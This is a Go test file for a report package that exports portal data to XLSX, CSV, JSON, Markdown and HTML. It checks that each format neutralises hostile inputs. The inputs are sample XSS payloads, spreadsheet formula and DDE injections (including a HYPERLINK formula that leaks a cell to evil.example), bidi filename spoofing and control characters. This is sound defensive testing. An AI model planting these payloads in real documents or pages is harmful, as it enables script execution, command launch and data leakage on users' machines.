package reports

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"
	"golang.org/x/net/html"
)

// hostileTexts is portal text that tries to run script, become a formula,
// hide itself or swamp the reports.
var hostileTexts = []struct{ key, text string }{
	{"script", `<script>document.title="PWNED"</script>`},
	{"img", `<img src=x onerror="document.title='PWNED'" data-pwn=1>`},
	{"attr-break", `"'><b data-pwn=1 onclick=alert(1)>x</b><!--`},
	{"script-close", `</script><script>document.title="PWNED"</script>`},
	{"formula", `=HYPERLINK("http://evil.example/?"&A1,"click")`},
	{"dde", `=cmd|' /C calc'!A0`},
	{"plus", "+1+1"}, {"minus", "-1+1"}, {"at", "@SUM(A1:A9)"},
	{"tab", "\t=1+1"}, {"cr", "\r=1+1"}, {"nul", "\x00=1+1"},
	{"control", "a\x01b\x1b[31mc\x7fd\u0085e"},
	{"rtl", "invoice\u202Efdp.exe"},
	{"isolate", "\u2067hidden\u2069 text"},
	{"newlines", "one\ntwo\r\nthree|four"},
	{"markdown", "[click](javascript:alert(1)) ![x](http://evil.example/x.png) **bold** `code` # h"},
	{"invalid-utf8", "caf\xe9 \xff\xfe"},
	{"huge", strings.Repeat("é<script>x", 100_000)}, // about 1.1 MB
}

// hostileReport is the sample report with one dataset per hostile text, in
// titles, finding messages, organization titles and link reasons.
func hostileReport(lang string) *Report {
	r := sampleReport(lang)
	tmpl := r.Datasets[0]
	r.Datasets = nil
	for i, h := range hostileTexts {
		d := tmpl
		d.ID = "id-" + h.key
		d.Name = h.key
		d.Title = h.text
		d.Organization = r.Organizations[i%len(r.Organizations)].Name
		d.Findings = append([]Finding(nil), tmpl.Findings...)
		d.Findings[0].Message = h.text
		d.Findings[1].Hint = h.text
		r.Datasets = append(r.Datasets, d)
	}
	r.Organizations[0].Title = hostileTexts[1].text
	r.Organizations[1].Title = hostileTexts[len(hostileTexts)-1].text
	r.Links[0].Reason = hostileTexts[5].text
	r.Links[0].URL = "javascript:document.title='PWNED'"
	extra := r.Links[0]
	extra.URL = "https://files.example/\"><img src=x onerror=alert(1) data-pwn=1>.csv"
	r.Links = append(r.Links, extra)
	r.Links[0].Datasets[0].Title = hostileTexts[0].text
	return r
}

func writeReport(t *testing.T, w Writer, r *Report) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := w.Write(context.Background(), &buf, r); err != nil {
		t.Fatalf("%T: %v", w, err)
	}
	if buf.Len() > 32<<20 {
		t.Fatalf("%T wrote %d bytes for %d datasets: a 1 MB title must not blow a report up", w, buf.Len(), len(r.Datasets))
	}
	return buf.Bytes()
}

func TestHostileContentXLSX(t *testing.T) {
	r := hostileReport("fr")
	b := writeReport(t, XLSX{}, r)
	if cells := xlsxCellsInert(t, b); cells < len(hostileTexts)*10 {
		t.Fatalf("only %d cells read back", cells)
	}
	got := datasetTitles(t, b)
	for _, h := range hostileTexts {
		v, ok := got[h.key]
		if !ok {
			t.Fatalf("dataset %s missing from the workbook", h.key)
		}
		if n := utf8.RuneCountInString(v); n > maxCell {
			t.Errorf("%s: %d characters in one cell, Excel keeps %d", h.key, n, maxCell)
		}
		if h.key != "huge" && strings.TrimLeft(v, "'") != strings.TrimLeft(Neutralise(h.text, false), "'") {
			t.Errorf("%s: title %q not kept readable (%q)", h.key, h.text, v)
		}
	}
	if !strings.Contains(got["rtl"], "invoice") || !strings.Contains(got["rtl"], "fdp.exe") {
		t.Errorf("right-to-left override title not readable: %q", got["rtl"])
	}
}

// datasetTitles maps dataset name to title cell on the datasets sheet.
func datasetTitles(t *testing.T, b []byte) map[string]string {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows(SheetNames("fr")[2])
	if err != nil {
		t.Fatal(err)
	}
	m := map[string]string{}
	for _, row := range rows[1:] {
		if len(row) > 1 {
			m[row[0]] = row[1]
		}
	}
	return m
}

func TestHostileContentCSV(t *testing.T) {
	r := hostileReport("fr")
	dir := t.TempDir()
	if err := (&CSV{BOM: true, Sep: ';'}).WriteDir(context.Background(), dir, r); err != nil {
		t.Fatal(err)
	}
	for _, name := range CSVFiles {
		b, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		b = bytes.TrimPrefix(b, []byte("\uFEFF"))
		cr := csv.NewReader(bytes.NewReader(b))
		cr.Comma = ';'
		recs, err := cr.ReadAll()
		if err != nil {
			t.Fatalf("%s does not parse back: %v", name, err)
		}
		if lines := bytes.Count(b, []byte("\n")); lines != len(recs) {
			t.Errorf("%s: %d lines for %d records: a value spans lines", name, lines, len(recs))
		}
		for _, rec := range recs[1:] {
			for _, v := range rec {
				if v != "" && strings.ContainsRune("=+@\t\r", rune(v[0])) {
					t.Errorf("%s: cell %.60q would be read as a formula", name, v)
				}
				if v != "" && v[0] == '-' && !looksNumeric(v) {
					t.Errorf("%s: cell %.60q would be read as a formula", name, v)
				}
				if !utf8.ValidString(v) || strings.ContainsAny(v, "\x00\x1b\u202e\u2067") {
					t.Errorf("%s: control, bidi or invalid bytes kept in %.60q", name, v)
				}
			}
		}
		if name != "datasets.csv" {
			continue
		}
		titles := map[string]string{}
		for _, rec := range recs[1:] {
			titles[rec[0]] = rec[1]
		}
		for _, h := range hostileTexts {
			if got := titles[h.key]; got != Neutralise(h.text, true) {
				t.Errorf("%s: title written as %.80q", h.key, got)
			}
		}
	}
}

func looksNumeric(s string) bool {
	for _, r := range strings.TrimPrefix(s, "-") {
		if (r < '0' || r > '9') && r != '.' {
			return false
		}
	}
	return true
}

func TestHostileContentJSON(t *testing.T) {
	r := hostileReport("en")
	b := writeReport(t, JSON{}, r)
	if !json.Valid(b) {
		t.Fatal("the JSON report is not valid JSON")
	}
	var doc struct {
		Datasets []struct {
			Name  string `json:"name"`
			Title string `json:"title"`
		} `json:"datasets"`
	}
	if err := json.Unmarshal(b, &doc); err != nil {
		t.Fatal(err)
	}
	if len(doc.Datasets) != len(hostileTexts) {
		t.Fatalf("%d datasets in JSON, want %d", len(doc.Datasets), len(hostileTexts))
	}
	for _, d := range doc.Datasets {
		for _, h := range hostileTexts {
			if h.key == d.Name && utf8.ValidString(h.text) && d.Title != h.text && d.Title != clean(h.text, false) {
				t.Errorf("%s: JSON title %.80q, want the portal's text", h.key, d.Title)
			}
		}
	}
}

// rawMarkup is an HTML tag or a link target not escaped with a backslash.
var rawMarkup = regexp.MustCompile(`(^|[^\\])(<(script|img|b)\b|\]\(javascript:)`)

func TestHostileContentMarkdown(t *testing.T) {
	b := writeReport(t, Markdown{}, hostileReport("fr"))
	if m := rawMarkup.Find(b); m != nil {
		t.Fatalf("markup from portal text reached the Markdown report unescaped: %q", m)
	}
	sc := bufio.NewScanner(bytes.NewReader(b))
	sc.Buffer(make([]byte, 1<<20), 8<<20)
	cols := -1
	for sc.Scan() {
		line := sc.Text()
		if !strings.HasPrefix(line, "|") {
			cols = -1
			continue
		}
		n := strings.Count(line, "|") - strings.Count(line, `\|`)
		if cols == -1 {
			cols = n
		} else if n != cols {
			t.Errorf("a table row has %d cells separators, its header %d: %.120q", n, cols, line)
		}
	}
	if !utf8.Valid(b) {
		t.Error("the Markdown report is not valid UTF-8")
	}
}

func TestHostileContentHTML(t *testing.T) {
	r := hostileReport("fr")
	b := writeReport(t, HTML{}, r)
	plain := sampleReport("fr")
	want := shapeOf(t, writeReport(t, HTML{}, plain))
	got := shapeOf(t, b)
	if got.scripts != want.scripts || got.handlers != want.handlers {
		t.Fatalf("portal text changed the page: %d scripts, %d event handlers; want %d and %d", got.scripts, got.handlers, want.scripts, want.handlers)
	}
	for tag := range got.tags {
		if !want.tags[tag] {
			t.Errorf("portal text created a <%s> element", tag)
		}
	}
	if !utf8.Valid(b) {
		t.Error("the HTML report is not valid UTF-8")
	}

	// The rows are drawn by the page's script: render it and look at the DOM.
	bin, err := exec.LookPath("chromium")
	if err != nil {
		t.Skip("chromium not installed: the rendered DOM is not checked")
	}
	if testing.Short() {
		t.Skip("-short: the rendered DOM is not checked")
	}
	// Without the 1 MB title, whose layout alone takes a browser many seconds.
	small := hostileReport("fr")
	small.Datasets = small.Datasets[:len(small.Datasets)-1]
	small.Organizations[1].Title = "Ministère B"
	page := filepath.Join(t.TempDir(), "hostile.html")
	if err := os.WriteFile(page, writeReport(t, HTML{}, small), 0o644); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, bin, "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
		"--user-data-dir="+t.TempDir(), "--dump-dom", "file://"+page)
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if err := cmd.Run(); err != nil {
		t.Fatalf("chromium: %v\n%s", err, stderr.String())
	}
	dom, err := html.Parse(&stdout)
	if err != nil {
		t.Fatal(err)
	}
	var rows int
	var visit func(n *html.Node)
	visit = func(n *html.Node) {
		if n.Type == html.ElementNode {
			for _, a := range n.Attr {
				if a.Key == "data-pwn" {
					t.Errorf("a <%s data-pwn> element appeared in the rendered page: portal text became markup", n.Data)
				}
				if (a.Key == "href" || a.Key == "src") && strings.HasPrefix(strings.ToLower(strings.TrimSpace(a.Val)), "javascript:") {
					t.Errorf("<%s %s=%q> in the rendered page", n.Data, a.Key, a.Val)
				}
			}
			if n.Data == "tr" && n.Parent != nil && n.Parent.Data == "tbody" {
				rows++
			}
			if n.Data == "title" && n.Parent != nil && n.Parent.Data == "head" && n.FirstChild != nil && strings.Contains(n.FirstChild.Data, "PWNED") {
				t.Error("a script from portal text ran: the page title was changed")
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			visit(c)
		}
	}
	visit(dom)
	if rows < len(small.Datasets) {
		t.Errorf("the rendered page shows %d table rows, want at least the %d datasets", rows, len(small.Datasets))
	}
}
